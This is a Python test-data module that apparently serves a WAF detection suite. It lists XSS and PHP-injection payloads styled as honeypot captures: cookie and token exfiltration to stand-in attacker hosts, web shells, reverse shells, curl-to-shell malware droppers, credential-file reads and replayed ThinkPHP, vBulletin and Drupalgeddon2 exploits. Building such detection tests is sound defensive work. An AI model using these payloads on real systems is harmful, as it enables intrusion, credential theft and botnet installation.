"""Blind set "hundredsixtyfourth": cross-site scripting and PHP injection the way honeypots capture them, with
benign requests that carry the same words innocently.

The angle: honeypot and web-server logs, recalled from memory. Opportunistic attackers and mass-exploitation
botnets do not send textbook proofs of concept: they spray the one-liner of the week at every host, drop
cryptominers and Mirai-style bots through whatever code-execution sink answers, upload a web shell and run its
first commands (uname, id, a config or credential grab), plant blind-XSS and out-of-band callbacks (XSS Hunter
style script sources, interactsh / Burp Collaborator / dnslog hosts) and wrap everything in noise: odd or double
encodings, doubled parameters, a payload glued to a legitimate-looking value, upper/lower-case games. Each group
of payloads carries a comment naming its family and its target (browser, AngularJS/Vue, PHP interpreter, php-cgi,
PHP-FPM, a named product such as ThinkPHP, vBulletin, Drupal, Joomla, Laravel, WordPress, PHPUnit).

Families (one sub-family per detection title):
  xss: libinjection-xss, script-tag, event-handler, attribute-vector, javascript-uri, html-injection, svg-mathml,
    css-expression, template-literal-dom-sink, ie-filter-style, encoded-entity, angular-vue-template
  php: php-open-tag, php-function-call, php-variable-functions, php-wrappers, php-object-injection,
    php-config-directives, superglobals, php-file-upload, php-high-risk-function-names

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names, as a query string, form body, JSON body, XML body, a raw form-typed body, or in
User-Agent, Referer, a custom header or a cookie. Product exploits whose payload is a whole `name=value` query
or form (ThinkPHP, vBulletin, Drupalgeddon2, China Chopper, pearcmd) go unquoted as the form body / query string;
php-cgi argument injection goes as a parameter name; Laravel Ignition goes as the JSON body; upload names go as
the file name of a multipart upload (carrying a GIF header only, so the name alone is measured). Payloads that
cannot ride a header, cookie or path (newlines, non-ASCII, long) fall back to JSON, form or query.

Authorship and independence: written for this repository from general knowledge of each attack family, honeypot
and access-log captures as remembered, and the detection titles alone; no WAF rule, engine source, ruleset
regression test or public payload list was read. Measured once on unchanged code; deterministic (no clock, no
randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "hundredsixtyfourth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
RAW: set[str] = set()   # payloads that are themselves a `name=value` query or form, sent unquoted


def kv(payload: str) -> Entry:
    """A product exploit that is a whole `name=value` form body or query string."""
    RAW.add(payload)
    return (payload, "form", "rs-raw-body")


def kvq(payload: str) -> Entry:
    """The same, sent as the query string."""
    RAW.add(payload)
    return (payload, "query", "rs-query")


def arg(payload: str) -> Entry:
    """php-cgi argument injection: the query string is a parameter name without `=`."""
    return (payload, "param-name", "rs-param-name")


def up(filename: str) -> Entry:
    """An upload's file name."""
    return (filename, "multipart-filename", "rs-multipart-filename")


def body(doc: str) -> Entry:
    """A whole JSON document as the request body."""
    return (doc, "json-body", "rs-json-body")


OAST = "c9h2k7q.oast.fun"   # the interactsh host these captures call back to
# ================================================================================================================
# XSS (target: the victim's browser unless a comment says otherwise)
# ================================================================================================================

# libinjection-xss: the short probes scanners (Acunetix, Burp, Nikto, nuclei, OWASP ZAP) spray at every parameter,
# breaking out of an attribute, title, textarea or script block and running alert/prompt/confirm
LIBINJECTION: list[Entry] = [
    "\"><script>alert(1)</script>",
    "'><script>alert(document.domain)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>prompt(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'\"><svg/onload=confirm(1)>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "\"><script>alert(String.fromCharCode(88,83,83))</script>",
    # glued to a legitimate-looking value, as the bots fill a search or id field
    "1\"><script>alert(1)</script>",
    "shoes\"><script>alert(/xss/)</script>",
    "--></script><script>alert(1)</script>",
    "\"><body onload=alert(1)>",
    # the locator string and the Acunetix / Burp reflection probes, random markers around the tag
    "'';!--\"<XSS>=&{()}",
    "'\"()&%<acx><ScRiPt >prompt(915149)</ScRiPt>",
    "r5d6e\"><script>alert(1)</script>g7x2p",
    "<script>alert('Vulnerable')</script>",
    "\"><marquee onstart=alert(1)>",
    "\"><details open ontoggle=alert(1)>",
    # the 0xsobky polyglot, as scanners paste it
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
    "</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    # mutation XSS through a noscript title, DOMPurify-era
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
]

# script-tag: stored-XSS droppers seen in WordPress/Magento campaigns: cookie stealers, BeEF hooks, browser
# cryptominers, skimmer loaders, redirect spam and blind-XSS callbacks
SCRIPT_TAG: list[Entry] = [
    "<script src=http://198.51.100.23:3000/hook.js></script>",
    "<script src=\"https://coinhive.com/lib/coinhive.min.js\"></script>"
    "<script>new CoinHive.Anonymous('k8Hy3vZq1XwPl0').start()</script>",
    "<script>document.location='http://203.0.113.50/steal.php?c='+document.cookie</script>",
    "<script>new Image().src=\"http://203.0.113.50/c.php?c=\"+encodeURIComponent(document.cookie)</script>",
    "<script>fetch('https://webhook.site/6f1c2e0a-3b7d-4a55-9e1f-2d8c7b0a4e91?c='+document.cookie)</script>",
    "\"><script src=https://xss.report/c/h0n3y></script>",
    "<script src=//js.rip/k9v></script>",
    "<script>eval(atob('ZG9jdW1lbnQubG9jYXRpb249Imh0dHA6Ly8yMDMuMC4xMTMuNTAvYy5waHA/Yz0iK2RvY3VtZW50LmNvb2tpZQ=='))"
    "</script>",
    "<script>var s=document.createElement('script');s.src='//cdn-jquery-min.example/jquery.min.js';"
    "document.head.appendChild(s)</script>",
    "<script>jQuery.getScript('//203.0.113.50/m.js')</script>",
    "<script type=\"text/javascript\">document.write('<iframe src=http://203.0.113.9/ width=0 height=0></iframe>')"
    "</script>",
    "<script src='https://stat.trackstatisticsss.example/stat.js?n=ns1' type='text/javascript'></script>",
    "<script>eval(String.fromCharCode(100,111,99,117,109,101,110,116,46,119,114,105,116,101,40,39,60,115,99,114,105,"
    "112,116,32,115,114,99,61,47,47,50,48,51,46,48,46,49,49,51,46,53,48,47,106,46,106,115,62,60,47,115,99,114,105,"
    "112,116,62,39,41))</script>",
    "<script>navigator.sendBeacon('//203.0.113.50/l',document.cookie)</script>",
    # WordPress stored XSS that creates a rogue administrator when an admin views the page
    "<script>jQuery.post('/wp-admin/user-new.php',{action:'createuser',user_login:'wpsupport',"
    "email:'wpsupport@mailbox.example',pass1:'Zx9!kQ2v',pass2:'Zx9!kQ2v',role:'administrator'})</script>",
    "<script>alert(document.cookie)</script>",
    "<script/src=data:,alert(1)></script>",
    "<script>x=new XMLHttpRequest;x.open('GET','http://203.0.113.50/?t='+localStorage.getItem('token'));x.send()"
    "</script>",
    "<sCrIpT>top['al'+'ert'](1)</sCrIpT>",
    "<script>\\u0061lert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<script>setTimeout('alert(1)',0)</script>",
    f"<script src=https://{OAST}/x.js></script>",
]

# event-handler: on* attributes that run script without a script tag (the image-error cookie grab is the most
# common stored payload in comment and contact forms)
EVENT: list[Entry] = [
    "<img src=x onerror=this.src='http://203.0.113.50/?c='+document.cookie>",
    "<body onload=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "\" autofocus onfocus=alert(document.domain) x=\"",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=\"alert(1)\">",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=fetch('//203.0.113.50/'+document.cookie)>",
    "<div onpointerover=\"alert(1)\">MOVE HERE</div>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<keygen autofocus onfocus=alert(1)>",
    "<marquee behavior=alternate onbounce=alert(1)>xss</marquee>",
    "<object data=x onerror=alert(1)>",
    "<iframe onload=alert(1)>",
    "<a onmouseover=alert(1)>hover me</a>",
    "<style>@keyframes x{}</style><xss style=\"animation-name:x\" onanimationstart=\"alert(1)\"></xss>",
    "<form><button onclick=alert(1)>click</button></form>",
    "<body onpageshow=alert(1)>",
    "<img src=x:x onerror=window['ev'+'al'](atob('YWxlcnQoMSk='))>",
    "<img src=x onerror=$.getScript('//203.0.113.50/j')>",
    f"<img src=x onerror=fetch('https://{OAST}/?d='+document.domain)>",
]

# attribute-vector: src / href / style / formaction / action / poster carrying script or exfiltrating the page
ATTRIBUTE: list[Entry] = [
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<input type=image src=x onerror=alert(1)>",
    "<button form=f formaction=\"//203.0.113.50/phish\">Login</button>",
    # dangling markup: the unterminated src swallows the page (CSRF token) into the attacker's URL
    "<img src='//203.0.113.50/?",
    "\"><img src=\"http://203.0.113.50/log?html=",
    "<div style=\"background-image:url(javascript:alert(1))\">",
    "<a href=# style=\"position:fixed;top:0;left:0;width:100%;height:100%\" onmouseover=alert(1)>x</a>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=\"javascript:alert(1)\">",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">open</a>",
    "<table background=\"javascript:alert(1)\">",
    "\" src=x onerror=alert(1) x=\"",
    "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    "<video poster=javascript:alert(1)//></video>",
    "<input type=\"image\" formaction=\"javascript:alert(1)\" src=x>",
    "<a href=\"javascript:fetch('//203.0.113.50/'+document.cookie)\">Verify your account</a>",
    "<img srcset=\",,,,x\" onerror=alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a target=_blank href=\"//203.0.113.50/wp-login.php\">Session expired, log in again</a>",
    "' href='javascript:alert(1)",
]

# javascript-uri: script in a URL that the application puts in a link or follows (redirect=, next=, url=)
JS_URI: list[Entry] = [
    "javascript:alert(document.domain)",
    "javascript:alert(1)//",
    "javascript://comment%0aalert(1)",
    "javascript://\nalert(1)",
    "jAvAsCrIpT:alert(1)",
    "java\tscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    # the XSS Hunter payload for link fields, loads the callback script
    "javascript:eval('var a=document.createElement(\\'script\\');a.src=\\'https://xss.report/c/h0n3y\\';"
    "document.body.appendChild(a)')",
    "javascript:fetch('//203.0.113.50/c?'+document.cookie)",
    "javascript:void(document.location='http://203.0.113.50/?'+document.cookie)",
    # VBScript: Internet Explorer
    "vbscript:msgbox(\"XSS\")",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+",
    "javascript:window.onerror=alert;throw 1",
    "javascript:top[/al/.source+/ert/.source](1)",
    "javascript:%61%6c%65%72%74%28%31%29",
    "https://example.com/login?next=javascript:alert(1)",
    "javascript:prompt(document.cookie)",
    "JaVaScRiPt:confirm(1337)",
]

# html-injection: iframe / object / embed / base / meta / link / form: hidden miner frames, phishing forms,
# redirects, defacements, SEO spam links and out-of-band image probes
HTML: list[Entry] = [
    "<iframe src=\"http://203.0.113.50/miner.html\" width=\"0\" height=\"0\" style=\"display:none\"></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
    "<object data=\"http://203.0.113.50/x.swf\" type=\"application/x-shockwave-flash\"></object>",
    "<embed src=\"http://203.0.113.50/xss.swf\" allowscriptaccess=always>",
    "<base href=\"http://203.0.113.50/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=http://203.0.113.50/phish\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=\"Set-Cookie\" content=\"session=attacker; path=/\">",
    "<link rel=import href=//203.0.113.50/x.html>",
    "<link rel=\"stylesheet\" href=\"javascript:alert(1)\">",
    "<form action=\"http://203.0.113.50/login.php\" method=\"post\"><input name=\"user\">"
    "<input type=\"password\" name=\"pass\"><input type=\"submit\" value=\"Login\"></form>",
    "</form><form action=//203.0.113.50/harvest method=post>",
    "<marquee><h1>Hacked by GhostSec-ID</h1></marquee>",
    "<div style=\"display:none\"><a href=\"https://pharma-discount.example/\">buy cialis online</a></div>",
    "<applet code=\"Exploit.class\" archive=\"http://203.0.113.50/x.jar\"></applet>",
    "<iframe src=\"https://203.0.113.50/\" style=\"position:absolute;top:0;left:0;width:100%;height:100%;"
    "opacity:0.01\"></iframe>",
    "<frameset onload=alert(1)>",
    "<object type=\"text/x-scriptlet\" data=\"http://203.0.113.50/x.sct\"></object>",
    "<portal src=//203.0.113.50/></portal>",
    f"\"><img src=//{OAST}/x.png>",
    "<iframe src=//burpcollaborator.net/d8k2 style=display:none></iframe>",
]

# svg/mathml: SVG and MathML namespaces (inline, uploaded avatars, sanitizer namespace-confusion bypasses)
SVG: list[Entry] = [
    "<svg/onload=alert(1)>",
    "<svg onload=alert&#40;1&#41;>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIGlkPSJ4Ij48aW1h"
    "Z2UgaHJlZj0iMSIgb25lcnJvcj0iYWxlcnQoMSkiLz48L3N2Zz4=#x\"/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><image href=x onerror=alert(1)>",
    # an uploaded SVG avatar that phones home when opened
    "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('//203.0.113.50/?c='"
    "+document.cookie)</script></svg>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\"/>",
    "<math><maction actiontype=\"statusline#http://google.com\" xlink:href=\"javascript:alert(1)\">CLICKME"
    "</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<svg/onload=eval(location.hash.slice(1))>",
    "<svg><discard onbegin=alert(1)>",
    "<svg><animatetransform onbegin=alert(1) attributeName=transform>",
    "<math><a xlink:href=javascript:alert(1)>click</a></math>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>XSS</text></a></svg>",
    "<math href=\"javascript:alert(1)\">CLICK</math>",
]

# css-expression: IE expression(), behavior/-moz-binding, url(javascript:), CSS exfiltration of tokens
CSS: list[Entry] = [
    "<div style=\"width:expression(alert(1))\">",
    "<style>*{x:expression(alert(1))}</style>",
    "<img style=\"xss:expression(alert(document.cookie))\">",
    "<p style=\"background:url(javascript:alert(1))\">",
    "<style>body{background-image:url(\"javascript:alert(1)\")}</style>",
    "<link rel=stylesheet href=\"data:text/css,*{x:expression(alert(1))}\">",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>@import url(//203.0.113.50/leak.css);</style>",
    "<style>input[name=csrf_token][value^=a]{background:url(//203.0.113.50/?a)}</style>",
    "<div style=\"behavior:url(//203.0.113.50/xss.htc)\">",
    "<style>body{-moz-binding:url(\"http://203.0.113.50/xss.xml#xss\")}</style>",
    "<div style=\"x:\\65\\78\\70\\72\\65\\73\\73\\69\\6f\\6e(alert(1))\">",
    "<div style=\"x:exp/**/ression(alert(1))\">",
    "<xss style=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "\" style=\"background:url(javascript:alert(1))",
    "';}</style><script>alert(1)</script>",
    "</style><svg onload=alert(1)>",
    "<style>li {list-style-image: url(\"javascript:alert(1)\");}</style><ul><li>XSS</li></ul>",
    "<style>@keyframes x{}</style><div style=\"animation-name:x\" onanimationend=\"alert(1)\"></div>",
    "<div style=\"width: expression(window.location='http://203.0.113.50/')\">",
]

# template-literal/dom-sink: breaking out of a JS string or template literal the page builds from input, and
# hash / prototype-pollution gadgets that reach innerHTML, document.write or eval
DOM: list[Entry] = [
    "${alert(1)}",
    "`-alert(1)-`",
    "';alert(String.fromCharCode(88,83,83))//",
    "\"-alert(1)-\"",
    "'-alert(document.domain)-'",
    "\\';alert(1);//",
    "</script><img src=x onerror=alert(1)>",
    "#<img src=x onerror=alert(1)>",
    "');document.write('<script src=//203.0.113.50/x.js></script>');//",
    "\"};alert(1);var x={\"a\":\"",
    "${fetch('//203.0.113.50/?'+document.cookie)}",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "__proto__[innerHTML]=<img/src/onerror=alert(1)>",
    "__proto__[srcdoc][]=<script>alert(1)</script>",
    "x'+alert(1)+'",
    "';top['al\\x65rt'](1);//",
    "\"+alert(1)+\"",
    "\\\"-alert(1)}//",
    "#';alert(document.cookie)//",
    "${eval(atob('YWxlcnQoMSk='))}",
]

# ie-filter-style: the old filter-evasion vectors (backticks, tabs, entities in the scheme, conditional comments,
# UTF-7, data islands, HTML+TIME, nested-tag stripping) still sprayed by legacy scanners; targets IE and others
IE: list[Entry] = [
    "<img src=`javascript:alert(1)`>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<img \"\"\"><script>alert(\"XSS\")</script>\">",
    "<img src=\"jav\tascript:alert('XSS');\">",
    "<img src=\" &#14;  javascript:alert('XSS');\">",
    "<xml id=i><x><c><![CDATA[<img src=\"javas]]><![CDATA[cript:alert('XSS');\">]]></c></x></xml>"
    "<span datasrc=#i datafld=c dataformatas=html></span>",
    "<!--[if gte IE 4]><script>alert('XSS');</script><![endif]-->",
    "<br size=\"&{alert('XSS')}\">",
    "<img dynsrc=\"javascript:alert('XSS')\">",
    "<img lowsrc=\"javascript:alert('XSS')\">",
    "<bgsound src=\"javascript:alert('XSS');\">",
    "<layer src=\"http://203.0.113.50/scriptlet.html\"></layer>",
    "<style>.XSS{background-image:url(\"javascript:alert('XSS')\");}</style><a class=XSS></a>",
    "<head><meta http-equiv=\"content-type\" content=\"text/html; charset=utf-7\"></head>"
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "+ADw-script+AD4-alert(document.cookie)+ADw-/script+AD4-",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script/xss src=\"http://203.0.113.50/xss.js\"></script>",
    "<a href=\"vbscript:msgbox(document.cookie)\">x</a>",
    "\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<?import namespace=\"t\" implementation=\"#default#time2\"><t:set attributeName=\"innerHTML\" "
    "to=\"XSS<script defer>alert(1)</script>\">",
    "<object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alert(1)></object>",
    "<comment><img src=\"</comment><img src=x onerror=alert(1)//\">",
]

# encoded/entity: the same vectors percent-, double-, entity-, JS- or overlong-encoded, for a sink that decodes
# once more (a second urldecode, html_entity_decode, a JS string) or a filter that does not decode
ENCODED: list[Entry] = [
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>",
    "<a href=\"&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;alert(1)\">x</a>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
    "&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083"
    "&#0000083&#0000039&#0000041\">",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%u003Cscript%u003Ealert(1)%u003C/script%u003E",
    "<img src=x onerror=\\u0061lert(1)>",
    "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>",
    "<a href=\"javascript&#58;alert&#40;1&#41;\">x</a>",
    "<img src=x onerror=eval('\\x61\\x6c\\x65\\x72\\x74\\x28\\x31\\x29')>",
    "<script>eval(unescape('%61%6c%65%72%74%28%31%29'))</script>",
    "&#x3C;svg onload=alert(1)&#x3E;",
    "%3Csvg%2Fonload%3Dalert(document.domain)%3E",
    "\"%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "<img src=x onerror=alert&lpar;1&rpar;>",
    "<a href=javascript&colon;alert&lpar;document&period;cookie&rpar;>x</a>",
]

# angular/vue client templates: expressions the client-side framework evaluates (AngularJS 1.x sandbox escapes,
# Vue 2/3 render-function constructors, Alpine.js and Knockout bindings)
ANGULAR: list[Entry] = [
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
    "[\"a\",\"alert(1)\"].sort(toString.constructor);}}",
    "{{[].pop.constructor('alert(1)')()}}",
    "<div ng-app ng-csp><input autofocus ng-focus=\"$event.path|orderBy:'[].constructor.from([1],alert)'\"></div>",
    "<div v-html=\"''.constructor.constructor('alert(1)')()\">a</div>",
    "{{_c.constructor('alert(1)')()}}",
    "{{_openBlock.constructor('alert(1)')()}}",
    "<p v-show=\"_c.constructor`alert(1)`()\">",
    "<div ng-app>{{constructor.constructor('fetch(\"//203.0.113.50/?\"+document.cookie)')()}}</div>",
    "{{$eval.constructor('alert(1)')()}}",
    "{{a=toString().constructor.prototype;a.charAt=a.trim;$eval('a,alert(1),a')}}",
    "<input ng-focus=$event.view.alert(1) autofocus>",
    "[[constructor.constructor('alert(1)')()]]",
    "{{$emit.constructor('alert(1)')()}}",
    "<x @click=_c.constructor('alert(1)')()>click</x>",
    "{{''.constructor.constructor('alert(1)')()}}",
    "<div ng-app ng-init=\"constructor.constructor('alert(1)')()\"></div>",
    "<x ng-click=$event.view.alert(document.domain)>click</x>",
    "<div data-bind=\"html:'<img src=x onerror=alert(1)>'\"></div>",
    "<div x-data x-init=\"alert(1)\"></div>",
    "<div x-data=\"{}\" @mouseover=\"fetch('//203.0.113.50/'+document.cookie)\">hover</div>",
]

# ================================================================================================================
# PHP injection (target: the PHP interpreter behind the named product or sink)
# ================================================================================================================

# php-open-tag: code planted where PHP will parse it (log poisoning through User-Agent, uploads written to the web
# root, PHPUnit eval-stdin.php bodies, include() of a poisoned file): web shells and their loaders
OPEN_TAG: list[Entry] = [
    "<?php system($_GET['cmd']); ?>",
    # China Chopper / AntSword one-liners
    "<?php @eval($_POST['pass']);?>",
    "<?php eval($_POST[1]);?>",
    "<?=`$_GET[0]`?>",
    # the PHPUnit eval-stdin.php probe body (CVE-2017-9841), then its dropper
    "<?php echo(md5(\"Hello PHPUnit\"));",
    "<?php echo shell_exec('cd /tmp; wget http://203.0.113.50/x86; chmod +x x86; ./x86 phpunit'); ?>",
    "<?php phpinfo(); ?>",
    "<?php file_put_contents('/var/www/html/.cache.php', base64_decode('PD9waHAgQGV2YWwoJF9QT1NUWyd4J10pOz8+')); ?>",
    "<? passthru($_REQUEST['c']); ?>",
    "<?php if(isset($_REQUEST['cmd'])){ echo \"<pre>\"; $cmd = ($_REQUEST['cmd']); system($cmd); echo \"</pre>\";"
    " die; }?>",
    "<?php $sock=fsockopen(\"203.0.113.50\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");?>",
    "<?php echo md5('3v4l_pr0be');die;?>",
    "GIF89a<?php system($_GET['c']); ?>",
    "<script language=php>eval($_POST['z'])</script>",
    "<% eval($_POST['a']); %>",
    "<?PHP ECHO SHELL_EXEC($_GET['X']);?>",
    "<?php\n$x=$_GET['a'];\n@assert($x);\n?>",
    "<?php include('http://203.0.113.50/shell.txt'); ?>",
    "<?php copy('http://203.0.113.50/wso.txt','wso.php'); ?>",
    "<?php $d=file_get_contents('http://203.0.113.50/b.txt');file_put_contents('b.php',$d);?>",
    "<?php print(`curl -s http://203.0.113.50/xmrig.sh|bash`);?>",
    # log poisoning: the shell glued to an ordinary browser User-Agent
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) <?php system($_GET['c']); ?>",
    "<?php echo file_get_contents('/etc/passwd'); ?>",
    "<?php readfile('../wp-config.php'); ?>",
    "<?php print_r($_ENV);print_r($_SERVER);?>",
    "<?= system('uname -a') ?>",
    "<?php\r\n@preg_replace(\"/[pageerror]/e\",$_POST['error'],\"saft\");\r\n?>",
    f"<?php file_get_contents('http://{OAST}/'.php_uname('n')); ?>",
]

# php-function-call: code-injection sinks reached with command functions (system/exec/passthru/shell_exec/popen/
# proc_open), assert/eval, create_function and the /e modifier: Mirai and miner droppers, reverse shells, and the
# product exploits bots replay verbatim
FUNCTION_CALL: list[Entry] = [
    "system('cd /tmp;wget http://203.0.113.50/bins/mirai.x86;chmod 777 mirai.x86;./mirai.x86 thinkphp')",
    "exec('curl -fsSL http://203.0.113.50/ldr.sh | sh')",
    "passthru('id;uname -a')",
    "shell_exec('cat /etc/passwd')",
    "popen('wget -qO- http://203.0.113.50/m.sh|sh','r')",
    "proc_open('nc -e /bin/sh 203.0.113.50 4444',array(),$p)",
    "assert('phpinfo()')",
    "assert(base64_decode('c3lzdGVtKCdpZCcpOw=='))",
    "eval(gzinflate(base64_decode('K64sLknN1VCJD/APDolWSlaK1bQGAA==')))",
    "create_function('','system(\"id\");')",
    "create_function('$a','}system(\"id\");/*')",
    "preg_replace('/.*/e','system(\"id\")','')",
    "preg_replace(\"/x/e\",$_REQUEST['c'],\"x\")",
    "mb_ereg_replace('.*',$_REQUEST['c'],'x','e')",
    # ThinkPHP 5.x invokefunction (the Mirai/Mozi/Kinsing favourite) and the 5.0.23 _method RCE
    kvq("s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system"
        "&vars[1][]=cd /tmp;wget http://203.0.113.50/mozi.m;chmod 777 mozi.m;./mozi.m"),
    kvq("s=index/\\think\\Container/invokefunction&function=call_user_func_array&vars[0]=md5"
        "&vars[1][]=HelloThinkPHP21"),
    kv("_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=curl -s http://203.0.113.50/t.sh|sh"),
    # vBulletin 5 widget_php (CVE-2019-16759 and its 2020 bypass)
    kv("routestring=ajax/render/widget_php&widgetConfig[code]=echo shell_exec('wget http://203.0.113.50/x -O /tmp/x;"
       "sh /tmp/x'); exit;"),
    kv("routestring=ajax/render/widget_tabbedcontainer_tab_panel&subWidgets[0][template]=widget_php"
       "&subWidgets[0][config][code]=echo shell_exec('id'); exit;"),
    # Drupalgeddon2 (CVE-2018-7600)
    kv("form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup"
       "&mail[#markup]=wget http://203.0.113.50/d.sh -O- | sh"),
    "print(shell_exec('whoami'))",
    f"echo system('curl http://{OAST}/$(whoami)');",
    "file_put_contents('x.php','<?php eval($_POST[1]);?>')",
    "fputs(fopen('shell.php','w'),'<?php @eval($_POST[cmd])?>')",
    # China Chopper's first request: the eval stub plus its base64 recon payload
    kv("pass=@eval(base64_decode($_POST[z0]));&z0=QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIpO0BzZXRfdGltZV9saW1pdCgw"
       "KTtlY2hvKCItPnwiKTtlY2hvKHBocF91bmFtZSgpKTtlY2hvKCJ8PC0iKTtkaWUoKTs="),
    "eval('?>'.file_get_contents('http://203.0.113.50/s.txt'));",
    "ob_start('system');echo 'id';ob_end_flush();",
    "php -r '$sock=fsockopen(\"203.0.113.50\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
]

# php-variable-functions: the function name built at run time (concatenation, strrev, rot13, base64, chr, hex),
# callbacks and dynamic calls, as obfuscated web shells and droppers do; target: PHP interpreter
VARIABLE: list[Entry] = [
    "$x='sy'.'stem';$x('uname -a');",
    "$_GET[0]($_GET[1]);",
    "@$_POST['x']($_POST['y']);",
    "call_user_func('system','wget http://203.0.113.50/a.sh -O- | sh')",
    "call_user_func_array('assert',array('phpinfo()'))",
    "array_map('assert',array($_POST['z']))",
    "usort(...$_GET);",
    "$a=array($_POST['c']);array_walk($a,'system');",
    "register_shutdown_function('system','id');",
    "$f=strrev('metsys');$f('id');",
    "$f=str_rot13('flfgrz');$f('id');",
    "$f=base64_decode('c3lzdGVt');$f('id');",
    "$f=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);$f('id');",
    "$x=\"\\x73\\x79\\x73\\x74\\x65\\x6d\";$x(\"id\");",
    "${\"_GET\"}['a'](${\"_GET\"}['b']);",
